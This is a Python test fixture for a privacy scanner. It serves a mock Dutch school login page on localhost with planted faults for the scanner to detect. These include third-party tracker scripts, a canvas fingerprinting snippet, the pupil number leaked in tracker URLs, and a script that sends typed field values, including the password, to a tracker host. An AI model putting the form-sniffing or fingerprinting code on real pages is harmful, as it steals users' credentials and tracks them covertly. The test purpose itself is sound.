"""One page with everything that a scanner of privacy should find, and the third parties that answer it.

Planted: four tracker companies, a canvas fingerprint, a script that sends on what is typed into the password field,
the pupil's number in two addresses of third parties, third-party cookies, no HSTS and no content security policy.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from harness.sandbox.demo.certificates import Authority
from harness.sandbox.demo.serve import Listener
from harness.sandbox.demo.sink import sink

HOST = "planted.test"
URL = f"https://{HOST}/"
NUMBER, PASSWORD, USERNAME = "LL-83K2-771", "Zonnebloem-42-kX!", "ada.k7x2q"
SESSION = "9b1f0c6d2e8a4f7390d5c1b6a7e2f804"
COMPANIES = {
    "Google": "www.google-analytics.com",
    "Meta": "connect.facebook.net",
    "Hotjar": "static.hotjar.com",
    "Xandr": "ib.adnxs.com",
}

_PAGE = f"""<!doctype html><html lang="nl"><head><title>Oefenschool</title>
<script src="https://{COMPANIES["Google"]}/analytics.js"></script>
<script src="https://{COMPANIES["Meta"]}/en_US/fbevents.js"></script>
<script src="https://{COMPANIES["Hotjar"]}/c/hotjar-1.js"></script>
</head><body><h1>%s</h1>%s
<img alt="" src="https://{COMPANIES["Xandr"]}/pixel?member=7">
<img alt="" src="https://{COMPANIES["Google"]}/collect?v=1&amp;uid={NUMBER}">
<img alt="" src="https://www.facebook.com/tr?id=1&amp;ud={NUMBER}">
<script>
const canvas = document.createElement("canvas"); canvas.width = 240; canvas.height = 60;
const pen = canvas.getContext("2d");
pen.fillStyle = "#f60"; pen.fillRect(100, 1, 62, 20);
pen.fillStyle = "#069"; pen.font = "14px Arial"; pen.fillText("Cwm fjordbank glyphs vext quiz", 2, 15);
pen.fillStyle = "rgba(102, 204, 0, 0.7)"; pen.fillText("Cwm fjordbank glyphs vext quiz", 4, 17);
window.seen = canvas.toDataURL();
for (const field of document.querySelectorAll("input")) field.addEventListener("input", () => {{
  if (field.value.length > 7) fetch("https://{COMPANIES["Hotjar"]}/typed", {{method: "POST", mode: "no-cors",
    body: JSON.stringify({{name: field.name, value: field.value}})}});
}});
</script></body></html>"""
_FORM = """<form method="post" action="/login"><label>Gebruikersnaam <input name="username" autocomplete="username"></label>
<label>Wachtwoord <input name="password" type="password" autocomplete="current-password"></label>
<button>Aanmelden</button></form>"""


def _app() -> Starlette:
    async def start(request: Request) -> Response:
        known = request.cookies.get("__Host-session") == SESSION
        return HTMLResponse(_PAGE % ("Dag Adalberta", "") if known else _PAGE % ("Aanmelden", _FORM))

    async def login(request: Request) -> Response:
        form = await request.form()
        answer = RedirectResponse("/", status_code=303)
        if form.get("username") == USERNAME and form.get("password") == PASSWORD:
            answer.set_cookie("__Host-session", SESSION, secure=True, httponly=True, samesite="lax")
        return answer

    return Starlette(routes=[Route("/", start), Route("/login", login, methods=["POST"])])


def _with_cookies(app: ASGIApp) -> ASGIApp:
    """The third parties set an identifier with every answer."""

    async def answering(scope: Scope, receive: Receive, send: Send) -> None:
        async def add(message: dict[str, object]) -> None:
            if message["type"] == "http.response.start":
                cookie = b"uid=5f1c9a7be2d04b6c; Path=/; Max-Age=31536000; Secure; SameSite=None; Partitioned"
                message = {**message, "headers": [*message["headers"], (b"set-cookie", cookie)]}  # type: ignore[misc]
            await send(message)

        await app(scope, receive, add)  # type: ignore[arg-type]

    return answering


@contextlib.contextmanager
def planted_site(folder: Path) -> Iterator[dict[str, str]]:
    """Serve the page and its third parties; gives where they are, by name.

    Leaves two profiles in `folder`: `pupil.toml`, who signs in, and `visitor.toml`, what a quick scan does.
    """
    authority = Authority()
    (folder / "ca.pem").write_bytes(authority.pem)
    opened = {name: socket.create_server(("127.0.0.1", 0), backlog=64) for name in ("app", "sink")}
    at = {name: f"127.0.0.1:{one.getsockname()[1]}" for name, one in opened.items()}
    listeners = {
        "app": Listener(_app(), authority.context([HOST], folder)),
        "sink": Listener(_with_cookies(sink), authority.context_for_any_name(folder)),
    }

    async def serve() -> None:
        await asyncio.gather(*(listener.serve([opened[name]]) for name, listener in listeners.items()))

    thread = threading.Thread(target=lambda: asyncio.run(serve()), daemon=True)
    thread.start()
    names = {HOST: at["app"], "*": at["sink"]}
    (folder / "visitor.toml").write_text(_head(names), "utf-8")
    (folder / "pupil.toml").write_text(_head(names) + _PUPIL, "utf-8")
    try:
        yield names
    finally:
        for listener in listeners.values():
            listener.should_exit = True
        thread.join(10)


def _head(names: dict[str, str]) -> str:
    # No [authorisation]: a collector sends no probes of its own either.
    told = ", ".join(f'"{name}" = "{address}"' for name, address in names.items())
    return f"""schema = 1
[app]
name = "Oefenschool"
url = "{URL}"
hosts = ["{HOST}"]
environment = "test"
[sandbox]
names = {{ {told} }}
ca = "ca.pem"
public = false
"""


_PUPIL = f"""[personas.pupil]
role = "pupil"
username = "{USERNAME}"
password = "{PASSWORD}"
known = {{ first_name = "Adalberta", pupil_number = "{NUMBER}" }}
[login]
url = "/"
proof = {{ text = "{{first_name}}" }}
"""
